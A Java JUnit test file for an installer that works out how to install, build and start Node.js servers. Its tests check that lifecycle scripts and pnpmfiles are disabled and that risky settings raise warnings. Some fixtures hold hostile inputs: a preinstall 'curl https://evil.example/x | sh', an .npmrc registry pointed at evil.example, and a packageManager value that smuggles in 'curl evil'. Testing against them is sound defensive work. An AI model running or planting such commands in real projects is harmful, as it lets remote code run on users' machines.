package dev.hotplug.installer;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class NodeDetectorTest {
  private static final String BUILD = "'scripts': {'build': 'tsc'}";
  private static final String BIN = "'name': '@acme/notes-mcp', 'bin': 'dist/index.js'";

  @TempDir
  Path folder;

  @Test
  void aTypeScriptServerIsInstalledFrozenThenBuiltAndItsBinIsRunByNode() {
    var repository = repository().node(BIN + ", " + BUILD).files("package-lock.json");

    var recipe = repository.found();

    assertThat(recipe.ecosystem()).isEqualTo("node (npm)");
    assertThat(recipe.name()).isEqualTo("@acme/notes-mcp");
    assertThat(recipe.folder()).isEmpty();
    assertThat(repository.steps()).containsExactly(
        "$ npm ci --ignore-scripts || npm install --ignore-scripts", "$ npm run build");
    assertThat(repository.start()).isEqualTo("node {root}/dist/index.js");
    assertThat(recipe.evidence()).contains("package.json: bin \"notes-mcp\"",
        "package.json: scripts.build \"tsc\"");
    assertThat(recipe.warnings()).isEmpty();
  }

  @Test
  void theLockfileTellsTheManager() {
    installs("package-lock.json", "npm ci --ignore-scripts || npm install --ignore-scripts");
    installs("npm-shrinkwrap.json", "npm ci --ignore-scripts || npm install --ignore-scripts");
    installs("LICENSE", "npm install --ignore-scripts");
    installs("pnpm-lock.yaml", "pnpm install --frozen-lockfile --ignore-scripts --ignore-pnpmfile"
        + " || pnpm install --ignore-scripts --ignore-pnpmfile");
    installs("yarn.lock",
        "yarn install --frozen-lockfile --ignore-scripts" + " || yarn install --ignore-scripts");
    installs("bun.lock",
        "bun install --frozen-lockfile --ignore-scripts" + " || bun install --ignore-scripts");
    installs("bun.lockb",
        "bun install --frozen-lockfile --ignore-scripts" + " || bun install --ignore-scripts");
  }

  private void installs(String lockfile, String step) {
    var repository = repository().node(BIN)
        .files(lockfile, "dist/index.js")
        .tools("node", "npm", "pnpm", "yarn", "bun");

    assertThat(repository.steps()).as(lockfile).containsExactly("$ " + step);
  }

  @Test
  void aYarnLockOfYarn2IsInstalledTheNewWay() {
    var repository = repository().node(BIN)
        .file("yarn.lock", "__metadata:\n  version: 8\n")
        .files("dist/index.js")
        .tools("node", "yarn");

    assertThat(repository.steps()).containsExactly(
        "$ yarn install --immutable --mode=skip-build || yarn install --mode=skip-build");
  }

  @Test
  void codeThatYarnRunsWhileItInstallsIsTold() {
    var repository = repository().node(BIN)
        .file(".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.cjs\n")
        .files("yarn.lock", "dist/index.js")
        .tools("node", "yarn");

    assertThat(repository.found().warnings()).containsExactly(
        "yarn runs code of the repository while it installs: .yarnrc.yml names a yarn of its own.");
    assertThat(repository.exactly(".yarnrc.yml", "plugins: [{path: x.cjs}]\n").found().warnings())
        .containsExactly(
            "yarn runs code of the repository while it installs: .yarnrc.yml names plugins.");
    var classic = repository().node(BIN)
        .exactly(".yarnrc", "yarn-path \".yarn/yarn.js\"\n")
        .files("yarn.lock", "dist/index.js")
        .tools("node", "yarn");
    assertThat(classic.found().warnings()).containsExactly(
        "yarn runs code of the repository while it installs: .yarnrc names a yarn of its own.");
  }

  @Test
  void noPnpmfileIsRunWhereverItIsNamed() {
    var repository = repository().node(BIN)
        .files("pnpm-lock.yaml", ".pnpmfile.cjs", "dist/index.js")
        .exactly(".npmrc", "pnpmfile=hook.cjs\n global-pnpmfile = /x\nnopnpmfile=1\n")
        .exactly("pnpm-workspace.yaml", "pnpmfile: a.cjs\nconfigDependencies: {x: 1.0.0}\n")
        .tools("node", "pnpm");

    assertThat(repository.steps())
        .containsExactly("$ pnpm install --frozen-lockfile --ignore-scripts --ignore-pnpmfile"
            + " || pnpm install --ignore-scripts --ignore-pnpmfile");
    var kept = "pnpm is kept from running code of the repository while it installs: ";
    assertThat(repository.found().warnings()).containsExactly(kept + "it has a .pnpmfile.cjs.",
        kept + ".npmrc sets pnpmfile.", kept + ".npmrc sets global-pnpmfile.",
        kept + "pnpm-workspace.yaml sets pnpmfile.",
        kept + "pnpm-workspace.yaml sets configDependencies.");
  }

  @Test
  void whereTheRepositoryTakesPackagesFromIsTold() {
    var repository = repository().node(BIN).exactly(".npmrc", """
        registry = https://evil.example
        @a:registry=https://x
        fund=false
        git=./evil
        """).files("dist/index.js");

    assertThat(repository.found().warnings())
        .containsExactly("The repository's .npmrc changes where"
            + " packages and programs come from: \"registry\", \"@a:registry\", \"git\".");
  }

  @Test
  void aLargeLockfileOrBundleIsStillThere() {
    var repository = repository().node(BIN)
        .exactly("pnpm-lock.yaml", "lockfileVersion: '6.0'\n" + "#\n".repeat(1_000_000))
        .exactly("dist/index.js", "//\n".repeat(1_000_000));

    assertThat(repository.steps().getFirst()).startsWith("$ npx --yes pnpm@8 install --frozen");
    assertThat(repository.start()).isEqualTo("node {root}/dist/index.js");
    assertThat(repository.found().warnings()).noneMatch(it -> it.contains("larger"));
  }

  @Test
  void thePackageManagerFieldWinsOverTheLockfiles() {
    var repository = repository().node(BIN + ", 'packageManager': 'pnpm@9.1.0+sha512.abc'")
        .files("package-lock.json", "pnpm-lock.yaml", "dist/index.js")
        .tools("node", "npm", "pnpm");

    assertThat(repository.steps())
        .containsExactly("$ pnpm install --frozen-lockfile --ignore-scripts --ignore-pnpmfile"
            + " || pnpm install --ignore-scripts --ignore-pnpmfile");
    assertThat(repository.found().warnings()).containsExactly(
        "There are lockfiles of other package managers, too (package-lock.json); pnpm is used.");
  }

  @Test
  void ofTwoLockfilesOneIsUsedAndTheOtherTold() {
    var repository = repository().node(BIN)
        .files("package-lock.json", "yarn.lock", "dist/index.js")
        .tools("node", "npm", "yarn");

    assertThat(repository.found().ecosystem()).isEqualTo("node (yarn)");
    assertThat(repository.found().warnings()).containsExactly(
        "There are lockfiles of other package managers, too (package-lock.json); yarn is used.");
  }

  @Test
  void aManagerThatIsAbsentIsFetchedAsPinned() {
    fetched("'packageManager': 'pnpm@9.1.0+sha512.abc'", "LICENSE", "", "pnpm@9.1.0");
    fetched("'packageManager': 'yarn@1.22.19'", "LICENSE", "", "yarn@1.22.19");
    fetched("'packageManager': 'yarn@4.2.2'", "LICENSE", "", "@yarnpkg/cli-dist@4.2.2");
    fetched("'packageManager': 'bun@1.1.0'", "LICENSE", "", "bun@1.1.0");
    fetched("'private': true", "pnpm-lock.yaml", "lockfileVersion: '9.0'", "pnpm@10");
    fetched("'private': true", "pnpm-lock.yaml", "lockfileVersion: '6.0'", "pnpm@8");
    fetched("'private': true", "pnpm-lock.yaml", "lockfileVersion: 5.4", "pnpm@7");
    fetched("'private': true", "yarn.lock", "# yarn lockfile v1", "yarn@1.22.22");
    fetched("'private': true", "yarn.lock", "__metadata:", "@yarnpkg/cli-dist@4");
    fetched("'private': true", "bun.lock", "{}", "bun@1");
    fetched("'packageManager': 'pnpm@9; curl evil'", "pnpm-lock.yaml", "", "pnpm@10");
  }

  private void fetched(String field, String lockfile, String text, String by) {
    var repository = repository().node(BIN + ", " + field)
        .exactly(lockfile, text)
        .files("dist/index.js");

    assertThat(repository.steps().getFirst()).startsWith("$ npx --yes " + by + " install --");
    assertThat(repository.found().warnings()).anyMatch(it -> it
        .endsWith("is not installed; npx fetches " + by + " from the registry and runs it."));
  }

  @Test
  void withoutTheManagerAndNpxNothingCanBeBuilt() {
    var nothing = repository().node(BIN)
        .files("pnpm-lock.yaml", "dist/index.js")
        .tools("node")
        .nothing();

    assertThat(nothing.reason()).isEqualTo(
        "It is installed with pnpm, and this machine has neither pnpm nor npx to fetch it.");
    assertThat(nothing.nextStep()).isEqualTo(
        "Install Node.js with npm as https://nodejs.org/en/download says; then install again.");
  }

  @Test
  void withoutNodeNothingCanBeBuilt() {
    var nothing = repository().node(BIN).files("dist/index.js").tools("npm").nothing();

    assertThat(nothing.reason()).isEqualTo("It is a Node.js server, and this machine has no node.");
  }

  @Test
  void scriptsOfTheInstallationAreOffAndTold() {
    var repository = repository()
        .node(BIN + ", 'scripts': {'preinstall': 'curl https://evil.example/x | sh', 'test': 'x'}")
        .files("dist/index.js", "package-lock.json");

    assertThat(repository.found().warnings()).containsExactly("Lifecycle scripts are not run:"
        + " preinstall: \"curl https://evil.example/x | sh\". Should the server need them, allow"
        + " scripts.");
  }

  @Test
  void aScriptThatOnlyBuildsIsNotMissed() {
    var repository = repository().node(BIN
        + ", 'scripts': {'build': 'tsc', 'prepare': 'npm run build', 'postinstall': 'npm run x'}");

    assertThat(repository.found().warnings()).singleElement()
        .asString()
        .startsWith("Lifecycle scripts are not run: postinstall: \"npm run x\".");
  }

  @Test
  void allowedScriptsAreToldToo() {
    for (var lockfile : new String[]{"package-lock.json", "pnpm-lock.yaml", "bun.lock",
        "yarn.lock"}) {
      var repository = repository().node(BIN + ", 'scripts': {'postinstall': 'node x.js'}")
          .files("dist/index.js", lockfile)
          .tools("node", "npm", "pnpm", "bun", "yarn")
          .allowScripts();

      assertThat(repository.steps().getFirst()).doesNotContain("--ignore-scripts");
      assertThat(repository.found().warnings()).containsExactly("The lifecycle scripts of all"
          + " packages run while they are installed, among them postinstall: \"node x.js\".");
    }
  }

  @Test
  void theScriptsAroundTheBuildAreTold() {
    var repository = repository().node(BIN
        + ", 'scripts': {'build': 'tsc', 'prebuild': 'rm -rf dist', 'postbuild': 'chmod 755 x'}");

    assertThat(repository.found().warnings()).containsExactly(
        "The build may also run the script prebuild: \"rm -rf dist\".",
        "The build may also run the script postbuild: \"chmod 755 x\".");
  }

  @Test
  void aBuildOfAnotherNameIsUsedWhenTheStartIsMissing() {
    builds("'scripts': {'compile': 'tsc -p .'}", "npm run compile");
    builds("'scripts': {'prepare': 'tsup src/index.ts'}", "npm run prepare");
    builds("'scripts': {'build:server': 'esbuild src/a.ts'}", "npm run build:server");
    builds("'scripts': {'prepare': 'husky'}", "npx --yes --package=typescript tsc");
    builds("'private': true", "npx --yes --package=typescript tsc");
  }

  private void builds(String fields, String step) {
    var repository = repository().node(BIN + ", " + fields).files("tsconfig.json");

    assertThat(repository.steps()).containsExactly("$ npm install --ignore-scripts", "$ " + step);
  }

  @Test
  void withoutABuildScriptWhatIsThereIsNotBuilt() {
    var repository = repository().node(BIN + ", 'scripts': {'compile': 'tsc'}")
        .files("tsconfig.json", "dist/index.js");

    assertThat(repository.steps()).containsExactly("$ npm install --ignore-scripts");
  }

  @Test
  void aBuildScriptIsRunEvenWhereItsResultIsThere() {
    var repository = repository().node(BIN + ", " + BUILD).files("dist/index.js");

    assertThat(repository.steps()).contains("$ npm run build");
  }

  @Test
  void ofSeveralBinsTheOneNamedLikeThePackageIsTaken() {
    bin("'name': '@acme/notes', 'bin': {'cli': 'a.js', 'notes': 'b.js', 'notes-mcp': 'c.js'}",
        "b.js");
    bin("'name': 'acme', 'bin': {'cli': 'a.js', 'x': 'b.js', 'notes-mcp': 'c.js'}", "c.js");
    bin("'name': 'acme', 'bin': {'cli': 'a.js', 'x': 'b.js', 'y': 'c.js'}", "a.js");
    bin("'bin': './b.js'", "b.js");
    bin("'name': 'acme', 'bin': {'acme': 'gone.js', 'y': 'c.js'}", "c.js");
    bin("'name': 'acme', 'bin': {'acme': 'run.sh', 'y': 'c.js'}", "c.js");
  }

  private void bin(String fields, String file) {
    var repository = repository().node(fields)
        .files("a.js", "b.js", "c.js")
        .exactly("run.sh", "#!/bin/sh\nexec node c.js\n");

    assertThat(repository.start()).isEqualTo("node {root}/" + file);
  }

  @Test
  void theOtherBinsAreToldAndServerFilePicksOne() {
    var fields = "'name': 'acme', 'bin': {'acme': 'a.js', 'acme-http': 'b.js'}";
    var repository = repository().node(fields).files("a.js", "b.js");

    assertThat(repository.found().evidence()).contains(
        "package.json: bins besides: \"acme-http\"; server_file (--server-file) picks one of them");
    assertThat(repository.serverFile("acme-http").start()).isEqualTo("node {root}/b.js");
    assertThat(repository.serverFile("b.js").start()).isEqualTo("node {root}/b.js");
  }

  @Test
  void withoutABinTheStartScriptThenMainThenIndexAreTaken() {
    starts("'scripts': {'start': 'node a.js'}, 'main': 'b.js'", "node {root}/a.js");
    starts("'scripts': {'start': 'NODE_ENV=production node --enable-source-maps ./a.js'}",
        "node {root}/a.js");
    starts("'scripts': {'start': 'npm run lint && node -r ./b.js a.js'}", "node {root}/a.js");
    starts("'scripts': {'start': 'nodemon'}, 'main': 'b.js'", "node {root}/b.js");
    starts("'scripts': {'start': 'cd lib && node a.js'}, 'main': 'b.js'", "node {root}/b.js");
    starts("'main': 'b'", "node {root}/b.js");
    starts("'main': 'lib'", "node {root}/lib/index.js");
    starts("'private': true", "node {root}/index.js");
    starts("'main': '../../etc/x.js'", "node {root}/index.js");
    starts("'main': '/etc/x.js'", "node {root}/index.js");
  }

  private void starts(String fields, String start) {
    var repository = repository().node(fields)
        .files("a.js", "b.js", "lib/index.js", "index.js", "dist/index.js");

    assertThat(repository.start()).as(fields).isEqualTo(start);
  }

  @Test
  void whatABundleStartsIsTakenWhereThePackageNamesNothing() {
    var bundle = "{'server': {'type': '%s', 'entry_point': 'server/main.js'}}";
    var node = repository().node("'private': true")
        .files("server/main.js", "index.js")
        .file("manifest.json", bundle.formatted("node"));
    var python = repository().node("'private': true")
        .files("server/main.js", "index.js")
        .file("manifest.json", bundle.formatted("python"));
    var named = repository().node("'main': 'index.js'")
        .files("server/main.js", "index.js")
        .file("manifest.json", bundle.formatted("node"));

    assertThat(node.start()).isEqualTo("node {root}/server/main.js");
    assertThat(python.start()).isEqualTo("node {root}/index.js");
    assertThat(named.start()).isEqualTo("node {root}/index.js");
  }

  @Test
  void whatFollowsTheFileInTheStartScriptIsTried() {
    var repository = repository().node("'scripts': {'start': 'node a.js stdio --verbose'}")
        .files("a.js");

    assertThat(repository.found().arguments()).first()
        .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST)
        .containsExactly("stdio", "--verbose");
  }

  @Test
  void whatOnlyAShellUnderstandsIsNotTried() {
    for (var rest : new String[]{"> log.txt", "$PORT", "${X}", "a\\u001b[2J"}) {
      var repository = repository().node("'scripts': {'start': 'node a.js " + rest + "'}")
          .files("a.js");

      assertThat(repository.found().arguments()).as(rest).isEmpty();
    }
  }

  @Test
  void typeScriptIsRunByWhatTheRepositoryRunsItWith() {
    var bun = repository().node("'bin': 'src/index.ts'")
        .files("bun.lock", "src/index.ts")
        .tools("node", "bun");
    var shebang = repository().node("'bin': 'src/index.ts'")
        .exactly("src/index.ts", "#!/usr/bin/env bun\n")
        .tools("node", "npm", "bun");
    var tsx = repository()
        .file("package.json",
            "{'scripts': {'start': 'tsx src/index.ts'},"
                + " 'dependencies': {'@modelcontextprotocol/sdk': '1', 'tsx': '4'}}")
        .files("src/index.ts");
    var node = repository().node("'scripts': {'start': 'node src/index.ts'}").files("src/index.ts");

    assertThat(bun.start()).isEqualTo("bun run {root}/src/index.ts");
    assertThat(shebang.start()).isEqualTo("bun run {root}/src/index.ts");
    assertThat(tsx.start())
        .isEqualTo("node {root}/node_modules/tsx/dist/cli.mjs {root}/src/index.ts");
    assertThat(node.start()).isEqualTo("node {root}/src/index.ts");
    assertThat(node.found().warnings())
        .containsExactly("Node.js runs src/index.ts as it is, which needs version 22.18 or newer.");
  }

  @Test
  void withoutBunItIsFetched() {
    var repository = repository().node("'bin': 'src/index.ts'").files("bun.lock", "src/index.ts");

    assertThat(repository.start()).isEqualTo("npx --yes bun@1 run {root}/src/index.ts");
    assertThat(repository.found().warnings())
        .contains("bun is not installed; npx fetches it from the registry at each start.");
  }

  @Test
  void aWorkspaceIsInstalledWhereItsLockfileIsAndBuiltByTheRoot() {
    var repository = repository()
        .file("package.json",
            "{'private': true, 'workspaces': ['packages/*'], 'scripts': {'build': 'tsc -b'}}")
        .files("package-lock.json")
        .node("packages/files/",
            "'name': 'files', 'bin': 'dist/x.js', 'scripts': {'build': 'tsc'}");

    assertThat(repository.found().folder()).isEqualTo("packages/files");
    assertThat(repository.steps()).containsExactly(
        "$ npm ci --ignore-scripts || npm install --ignore-scripts", "$ npm run build");
    assertThat(repository.start()).isEqualTo("node {root}/packages/files/dist/x.js");
  }

  @Test
  void aWorkspaceOfARootThatBuildsNothingIsBuiltByItself() {
    workspaceBuilds("package-lock.json", "$ npm run build --workspace=packages/files");
    workspaceBuilds("pnpm-lock.yaml", "$ pnpm --filter {./packages/files}... run build");
    workspaceBuilds("yarn.lock", "packages/files$ yarn run build");
    workspaceBuilds("bun.lock", "packages/files$ bun run build");
  }

  private void workspaceBuilds(String lockfile, String step) {
    var repository = repository()
        .file("package.json", "{'workspaces': {'packages': ['./packages/*/']}}")
        .files(lockfile)
        .node("packages/files/", "'bin': 'dist/x.js', 'scripts': {'build': 'tsc'}")
        .tools("node", "npm", "pnpm", "yarn", "bun");

    assertThat(repository.steps()).last().isEqualTo(step);
  }

  @Test
  void thePatternsOfPnpmCountToo() {
    var repository = repository().file("package.json", "{'packageManager': 'pnpm@9.0.0'}")
        .exactly("pnpm-workspace.yaml", "packages:\n  - 'servers/**'\n")
        .files("pnpm-lock.yaml")
        .node("servers/a/notes/", "'bin': 'x.js'")
        .files("servers/a/notes/x.js")
        .tools("node", "pnpm");

    assertThat(repository.steps()).first().asString().startsWith("$ pnpm install --frozen");
  }

  @Test
  void aFolderThatIsNoWorkspaceIsInstalledByItself() {
    var repository = repository().file("package.json", "{'workspaces': ['apps/*']}")
        .files("pnpm-lock.yaml")
        .node("servers/notes/", "'bin': 'x.js'")
        .files("servers/notes/x.js", "servers/notes/package-lock.json");

    assertThat(repository.steps())
        .containsExactly("servers/notes$ npm ci --ignore-scripts || npm install --ignore-scripts");
  }

  @Test
  void aFileThatIsAskedForWins() {
    var repository = repository().node(BIN + ", " + BUILD)
        .files("src/http.ts", "tools/server.mjs")
        .serverFile("tools/server.mjs");

    assertThat(repository.start()).isEqualTo("node {root}/tools/server.mjs");
    assertThat(repository.steps()).contains("$ npm run build");
    assertThat(repository.serverFile("dist/other.js").start())
        .isEqualTo("node {root}/dist/other.js");
  }

  @Test
  void theVersionsOfNodeThatItWantsAreTold() {
    var repository = repository().node(BIN + ", 'engines': {'node': '>=20'}")
        .files("dist/index.js");

    assertThat(repository.found().evidence()).contains("package.json: engines.node \">=20\"");
  }

  private Skeleton repository() {
    return Skeleton.in(folder);
  }
}
